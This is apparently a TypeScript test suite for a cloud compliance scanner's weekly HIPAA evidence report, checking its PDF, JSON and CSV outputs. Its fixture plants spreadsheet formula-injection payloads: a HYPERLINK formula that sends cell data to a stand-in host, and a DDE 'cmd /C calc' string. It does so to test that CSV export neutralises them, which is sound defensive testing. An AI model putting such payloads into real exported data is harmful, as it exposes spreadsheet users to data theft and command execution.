// The weekly report end to end, on a few hundred findings: the PDF read back with pdftotext
// (poppler-utils) agrees with report.json, which validates against its schema; report.csv has one
// row per finding; the bundle's manifest lists every file.

import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Ajv } from 'ajv';
import { beforeAll, describe, expect, it } from 'vitest';
import { HIPAA_SAFEGUARDS } from '../core/hipaa.js';
import { SEVERITIES, type Finding } from '../core/model.js';
import type { MuteRule } from '../core/mutes.js';
import type { ScanStore } from '../core/store/scans.js';
import { HIPAA_STATUS_LABELS, type HipaaStatus } from './data.js';
import { buildSampleStore, SAMPLE_MUTES, sampleScan, type SampleOptions } from './fixtures.js';
import { buildWeeklyEvidence, type WeeklyEvidence } from './weekly.js';

const WEEK = '2026-W47';
const NOW = new Date('2026-11-22T20:00:00Z');
const SAMPLE: SampleOptions = { week: WEEK, accounts: 3, resourcesPerControl: 16, weeks: 3, namesEvery: 2 };

interface ReportJson {
  schemaVersion: number;
  period: { week: string };
  summary: { results: Record<string, number>; open: { total: number; bySeverity: Record<string, number> }; changes: Record<string, number> };
  trend: Array<{ week: string; open: number | null }>;
  hipaa: Array<{ safeguard: string; pass: number; fail: number; muted: number; error: number; notAssessable: number; status: HipaaStatus }>;
  coverage: { gaps: unknown[] };
  mutes: { rules: Array<{ index: number; rule: MuteRule; status: string; muted: number; wouldMatch: number }> };
  findings: Array<Finding & { scanId: string | null; lifecycle: { state: string } | null }>;
  hipaaCoverage: { items: Array<{ ref: string; controls: string[] }>; notAssessed: number };
  scope: { accounts: Array<{ account: string; identity?: { principal: string; via: string } }> };
  scans: Array<{ scanId: string; runner?: { kind: string; function?: string } }>;
}

const SG_RULES = [
  { IpProtocol: 'tcp', FromPort: 22, ToPort: 22, IpRanges: [{ CidrIp: '0.0.0.0/0', Description: 'temporary vendor access' }], Ipv6Ranges: [{ CidrIpv6: '::/0' }] },
  { IpProtocol: 'tcp', FromPort: 443, ToPort: 443, IpRanges: [{ CidrIp: '10.0.0.0/8' }] },
];
let sgId: string;
let dir: string;
let store: ScanStore;
let out: WeeklyEvidence;
let report: ReportJson;
let pdfPath: string;

function pdftotext(args: string[]): string {
  return execFileSync('pdftotext', [...args, pdfPath, '-'], { encoding: 'utf8' });
}

function pageText(page: number): string {
  return pdftotext(['-layout', '-f', String(page), '-l', String(page)]);
}

const numbers = (text: string): number[] => (text.match(/\d[\d,]*/g) ?? []).map((n) => Number(n.replace(/,/g, '')));

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'ward-report-'));
  store = await buildSampleStore(dir, SAMPLE);
  // A resource name a spreadsheet would run as a formula, in the report week.
  const scan = sampleScan(SAMPLE, 2, 0);
  const victim = scan.results.find((f) => f.status === 'FAIL');
  if (victim === undefined) throw new Error('fixture has no failing result');
  victim.resource.name = '=HYPERLINK("https://evil.example/?x="&A1,"click")';
  victim.message = '@SUM(1+1) -2 +cmd|" /C calc"!A0';
  // A security group as the SSH control records it: the identifiers first, the deciding rules last.
  const sg = scan.results.find((f) => f.status === 'FAIL' && f.controlId === 'aws-ssh-not-open' && f !== victim);
  if (sg === undefined) throw new Error('fixture has no failing SSH result');
  sg.evidence = [{ api: 'ec2:DescribeSecurityGroups', region: sg.region, readAt: NOW.toISOString(), fields: { GroupId: 'sg-0a0a0a0a0a0a00004', GroupName: 'a-rather-long-security-group-name-for-the-jump-hosts', VpcId: 'vpc-0b22c0ffee5ec0002', IpPermissions: SG_RULES } }];
  sgId = sg.id;
  // Who read the account and where Ward ran, as scans record them.
  const targets = scan.targets.map((t) => ({ ...t, identity: { principal: `arn:aws:sts::${t.account}:assumed-role/WardAuditRole/ward-scan`, via: `sts:AssumeRole arn:aws:iam::${t.account}:role/WardAuditRole` } }));
  const runner = { kind: 'lambda' as const, function: 'arn:aws:lambda:eu-west-1:111122223333:function:ward-prod-scan' };
  await store.recordScan({ ...scan, targets, runner, scanId: `${scan.scanId}-late`, finishedAt: new Date(Date.parse(scan.finishedAt) + 3_600_000).toISOString() });
  out = await buildWeeklyEvidence(store, { week: WEEK, organization: 'Acme Health — Клиника', mutes: SAMPLE_MUTES, now: NOW });
  report = JSON.parse(readFileSync(join(dir, out.keys.json), 'utf8')) as ReportJson;
  pdfPath = join(dir, out.keys.pdf);
});

describe('report.json', () => {
  it('validates against reports/report.schema.json', () => {
    const schema = JSON.parse(readFileSync(join(import.meta.dirname, 'report.schema.json'), 'utf8')) as object;
    const ajv = new Ajv({ allErrors: true, strict: true });
    const validate = ajv.compile(schema);
    const ok = validate(report);
    expect(validate.errors ?? []).toEqual([]);
    expect(ok).toBe(true);
  });

  it('carries every finding with its evidence and lifecycle, and its counts add up', () => {
    expect(report.schemaVersion).toBe(1);
    expect(report.period.week).toBe(WEEK);
    const fails = report.findings.filter((f) => f.status === 'FAIL');
    expect(fails.length).toBe(report.summary.open.total);
    for (const s of SEVERITIES) expect(fails.filter((f) => f.severity === s).length).toBe(report.summary.open.bySeverity[s]);
    expect(fails.every((f) => f.evidence.length > 0 && f.lifecycle !== null)).toBe(true);
    // The trend's last point is this week's posture.
    expect(report.trend).toHaveLength(8);
    expect(report.trend.at(-1)).toMatchObject({ week: WEEK, open: report.summary.open.total });
    expect(report.trend.slice(0, 5).every((t) => t.open === null)).toBe(true);
    // The late scan replaced the earlier one for its account: one result per finding.
    expect(new Set(report.findings.map((f) => `${f.account}|${f.id}`)).size).toBe(report.findings.length);
    expect(report.coverage.gaps).toHaveLength(1);
    expect(report.mutes.rules.map((m) => m.status)).toEqual(['in-force', 'expired']);
    expect(report.mutes.rules[0]?.muted).toBe(report.findings.filter((f) => f.status === 'MUTED').length);
    // Who approved the accepted risk, and where it is recorded, on the rule and on each muted finding.
    expect(report.mutes.rules[0]?.rule).toMatchObject({ approvedBy: 'Security Officer J. Doe', ticket: 'RISK-142' });
    expect(report.findings.filter((f) => f.status === 'MUTED').every((f) => f.mute?.approvedBy === 'Security Officer J. Doe' && f.mute.ticket === 'RISK-142')).toBe(true);
  });
});

describe('report.pdf, read back with pdftotext', () => {
  it('numbers every page "Page n of N"', () => {
    const pages = Number(/Pages:\s+(\d+)/.exec(execFileSync('pdfinfo', [pdfPath], { encoding: 'utf8' }))?.[1]);
    expect(pages).toBe(out.pages);
    const all = pdftotext(['-layout']).split('\f');
    for (let i = 1; i <= pages; i += 1) expect(all[i - 1]).toContain(`Page ${i} of ${pages}`);
  });

  it('answers on page 2: open findings by severity as in the JSON', () => {
    const page2 = pageText(2);
    expect(page2).toContain('Executive summary');
    const total = page2.split('\n').find((l) => l.trim().startsWith('Total'));
    // Critical, High, Medium, Low, Info, Open, Muted, Errors.
    const [critical, high, medium, low, info, open, muted] = numbers(total ?? '');
    const s = report.summary.open.bySeverity;
    expect([critical, high, medium, low, info, open]).toEqual([s['critical'], s['high'], s['medium'], s['low'], s['info'], report.summary.open.total]);
    expect(muted).toBe(report.summary.results['MUTED']);
    expect(page2).toContain(`${report.summary.changes['new']} new and ${report.summary.changes['resolved']} resolved this week`);
  });

  it('has a table of contents whose page numbers lead to the sections', () => {
    const toc = pageText(3);
    expect(toc).toContain('Contents');
    for (const title of ['HIPAA Security Rule matrix', 'Scope and coverage', 'Accepted risks (mutes)']) {
      const line = toc.split('\n').find((l) => l.trim().startsWith(title));
      const page = numbers(line ?? '').at(-1);
      expect(page, title).toBeGreaterThan(3);
      expect(pageText(page ?? 0)).toMatch(new RegExp(`^\\s*${title.replace(/[()]/g, '\\$&')}\\s*$`, 'm'));
    }
  });

  it('shows the HIPAA matrix rows of the JSON', () => {
    const toc = pageText(3);
    const at = numbers(toc.split('\n').find((l) => l.trim().startsWith('HIPAA Security Rule matrix')) ?? '').at(-1) ?? 0;
    const matrix = `${pageText(at)}${pageText(at + 1)}`;
    expect(report.hipaa.map((h) => h.safeguard)).toEqual(Object.keys(HIPAA_SAFEGUARDS).filter((k) => report.hipaa.some((h) => h.safeguard === k)));
    expect(report.hipaa.length).toBeGreaterThanOrEqual(5);
    for (const row of report.hipaa) {
      const line = matrix.split('\n').find((l) => l.trim().startsWith(row.safeguard));
      expect(line, row.safeguard).toBeDefined();
      const label = HIPAA_STATUS_LABELS[row.status];
      expect(line).toContain(label);
      const counts = numbers((line ?? '').slice(0, (line ?? '').lastIndexOf(label))).slice(-5);
      expect(counts, row.safeguard).toEqual([row.pass, row.fail, row.muted, row.error, row.notAssessable]);
    }
  });

  it('lists failing resources by name, non-Latin names included', () => {
    // pdftotext marks right-to-left runs with embedding controls; the names are in logical order.
    const text = pdftotext([]).replace(/[\u202a-\u202e\u2066-\u2069]/g, '');
    const names = [...new Set(report.findings.filter((f) => f.status === 'FAIL' && /[^\x20-\x7e]/.test(f.resource.name ?? '')).map((f) => f.resource.name ?? ''))];
    expect(names.some((n) => /[\u0400-\u04ff]/.test(n))).toBe(true);
    expect(names.some((n) => /[\u4e00-\u9fff\u3040-\u30ff\uac00-\ud7af]/.test(n))).toBe(true);
    for (const name of names.filter((n) => /^[\p{L}\p{N}-]+$/u.test(n))) expect(text, name).toContain(name);
    expect(text).toContain('=HYPERLINK(');
  });

  it('shows the deciding evidence fields whole: a security group\'s IpPermissions', () => {
    expect(report.findings.find((f) => f.id === sgId)?.status).toBe('FAIL');
    const text = pdftotext([]).replace(/\s+/g, '');
    expect(text).toContain(`IpPermissions=${JSON.stringify(SG_RULES).replace(/\s+/g, '')}`);
    // The identifiers follow, after the deciding fields.
    expect(text).toContain('GroupId=sg-0a0a0a0a0a0a00004');
    expect(text.indexOf('IpPermissions=')).toBeLessThan(text.indexOf('GroupId=sg-0a0a0a0a0a0a00004'));
  });

  it('says what could not be assessed, NOT_ASSESSABLE as such', () => {
    const text = pdftotext([]);
    expect(text).toContain('Could not be assessed');
    expect(text).toContain('AccessDeniedException');
    expect(text).toContain('NOT ASSESSABLE');
    expect(text).toContain('Minimum log retention used: 365 days');
  });

  it('maps the whole HIPAA Security Rule: what Ward assesses, what it does not, and why each threshold', () => {
    const text = pdftotext(['-layout']);
    expect(text).toContain('HIPAA coverage map: assessed and not');
    expect(text).toMatch(/164\.308\(a\)\(7\)\(ii\)\(A\)\s+Data backup plan\s+R\s+Not assessed/);
    expect(text).toMatch(/164\.312\(a\)\(2\)\(iv\)\s+Encryption and decryption\s+A\s+Assessed\s+aws-ebs-encryption-by-default/);
    expect(text).toContain('minLogRetentionDays (profile: hipaa-6y): 2190 days.');
    expect(report.hipaaCoverage.items.find((i) => i.ref === '164.312(b)')?.controls).toContain('aws-cloudtrail-all-regions');
    expect(report.hipaaCoverage.notAssessed).toBeGreaterThan(40);
  });

  it('says who read each account and where Ward ran, and when a scan did not record it', () => {
    const text = pdftotext([]).replace(/\s+/g, ' ');
    const late = report.scope.accounts.find((a) => a.identity !== undefined);
    expect(late?.identity?.principal).toMatch(/^arn:aws:sts::\d{12}:assumed-role\/WardAuditRole\/ward-scan$/);
    expect(report.scope.accounts.filter((a) => a.identity === undefined)).toHaveLength(2);
    expect(text).toContain(`Read as ${late?.identity?.principal ?? '?'}, via sts:AssumeRole`);
    expect(text).toContain('Read as: not recorded by this scan');
    expect(report.scans.find((s) => s.runner !== undefined)?.runner).toEqual({ kind: 'lambda', function: 'arn:aws:lambda:eu-west-1:111122223333:function:ward-prod-scan' });
    expect(text).toContain('Ran in AWS Lambda arn:aws:lambda:eu-west-1:111122223333:function:ward-prod-scan');
  });

  it('numbers mutes from 1 and shows who approved each and its ticket', () => {
    const text = pdftotext(['-layout']);
    expect(text).toMatch(/^\s*1\s+controls aws-log-retention/m);
    expect(text).toMatch(/^\s*2\s+controls aws-ssh-not-open/m);
    expect(text).toContain('approved by Security Officer J. Doe');
    expect(text).toContain('Accepted risk #1 until 2099-12-31, owner platform@example.com, approved by Security Officer J. Doe, ticket RISK-142');
  });
});

describe('report.csv', () => {
  it('has one row per finding, quoted per RFC 4180, with formula cells neutralised', () => {
    const csv = readFileSync(join(dir, out.keys.csv), 'utf8');
    expect(csv.startsWith('\uFEFFfinding_id,status,')).toBe(true);
    const records = parseCsv(csv.slice(1));
    expect(records.length - 1).toBe(report.findings.length);
    const header = records[0] ?? [];
    const nameAt = header.indexOf('resource_name');
    const messageAt = header.indexOf('message');
    const evil = records.find((r) => (r[nameAt] ?? '').includes('HYPERLINK'));
    expect(evil?.[nameAt]).toBe(`'=HYPERLINK("https://evil.example/?x="&A1,"click")`);
    expect(evil?.[messageAt]).toBe(`'@SUM(1+1) -2 +cmd|" /C calc"!A0`);
    for (const r of records.slice(1)) for (const cell of r) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});

/** A strict RFC 4180 reader (CRLF records, quoted fields with doubled quotes). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  while (i < text.length) {
    let cell = '';
    if (text[i] === '"') {
      i += 1;
      for (;;) {
        const q = text.indexOf('"', i);
        if (q < 0) throw new Error('unterminated quote');
        cell += text.slice(i, q);
        if (text[q + 1] === '"') {
          cell += '"';
          i = q + 2;
        } else {
          i = q + 1;
          break;
        }
      }
    } else {
      const end = text.slice(i).search(/,|\r\n/);
      cell = end < 0 ? text.slice(i) : text.slice(i, i + end);
      if (cell.includes('"') || cell.includes('\n')) throw new Error(`unquoted field with a quote or line break: ${cell}`);
      i = end < 0 ? text.length : i + end;
    }
    row.push(cell);
    if (text.startsWith(',', i)) i += 1;
    else if (text.startsWith('\r\n', i)) {
      i += 2;
      rows.push(row);
      row = [];
    } else if (i < text.length) throw new Error(`unexpected character at ${i}`);
  }
  if (row.length > 0) rows.push(row);
  return rows;
}
